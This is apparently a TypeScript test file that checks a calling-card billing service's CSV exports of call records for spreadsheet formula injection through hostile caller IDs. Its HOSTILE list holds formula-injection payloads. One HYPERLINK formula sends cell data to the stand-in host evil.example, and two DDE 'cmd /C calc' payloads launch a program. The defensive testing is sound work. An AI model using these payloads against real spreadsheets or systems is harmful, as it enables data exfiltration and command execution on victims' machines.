/**
 * Spreadsheet formula injection through the phone network: a caller ID is whatever the calling network sends. Calls
 * placed through the simulator with hostile caller IDs are billed, then their CDRs exported through the API and the
 * CLI: no exported cell may start a formula or carry a control character, and money stays exact.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { carrier } from '../../src/sim/index.ts';
import { createApiKey } from '../../src/store/admin/api-keys.ts';
import { runCli } from '../../src/cli/main.ts';
import { Writable } from 'node:stream';
import { startHarness, type Harness } from './harness.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Call back")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '+1\u0007=2'];

const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('exports neutralise hostile caller IDs placed through the simulator', () => {
  let h: Harness;
  let key: string;
  let dir: string;

  beforeAll(async () => {
    h = await startHarness();
    key = (await createApiKey({ pool: h.service.pool, pinKeys: h.service.pinKeys }, 'exports')).key;
    dir = await mkdtemp(path.join(tmpdir(), 'ccard-inject-'));
    for (const callerId of HOSTILE) {
      const { outcome } = await h.place({
        did: h.data.did,
        callerId,
        digits: [`${h.data.cards.rich.pin}#`, '15557654321#', ''],
        carrier: () => carrier.answer(500, 3000),
      });
      expect(outcome.ended).toBe('completed');
    }
  });
  afterAll(async () => {
    await h?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const check = (csv: string) => {
    expect(csv).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f]/);
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(HOSTILE.length);
    for (const r of rows) for (const cell of Object.values(r)) expect(formulaLike(cell), cell).toBe(false);
    expect(rows.map((r) => r.caller_id)).toEqual(HOSTILE.map((c) => `'${c.replace(/[\u0000-\u001f]/g, '')}`));
    // Money columns are plain numbers, untouched: 3 s on the 0.05/min line (30 s first block) + 0.01 connect fee.
    for (const r of rows) expect(r.cost).toMatch(/^\d+\.\d{2}$/);
  };

  it('GET /v1/cdrs/export', async () => {
    const res = await fetch(`http://127.0.0.1:${h.service.http.port}/v1/cdrs/export`, { headers: { authorization: `Bearer ${key}` } });
    expect(res.status).toBe(200);
    check(await res.text());
  });

  it('ccard cdr export (file and stdout)', async () => {
    const file = path.join(dir, 'cdrs.csv');
    let stdout = '';
    const sink = new Writable({ write: (c, _e, cb) => ((stdout += c.toString()), cb()) });
    const env = { DATABASE_URL: h.db.url, CCARD_SECRET: 'test-secret-0123456789' };
    expect(await runCli(['node', 'ccard', 'cdr', 'export', '--out', file], { env, pool: h.service.pool, stdout: sink, stderr: sink })).toBe(0);
    check(await readFile(file, 'utf8'));
    stdout = '';
    expect(await runCli(['node', 'ccard', 'cdr', 'export'], { env, pool: h.service.pool, stdout: sink, stderr: sink })).toBe(0);
    check(stdout);
  });
});
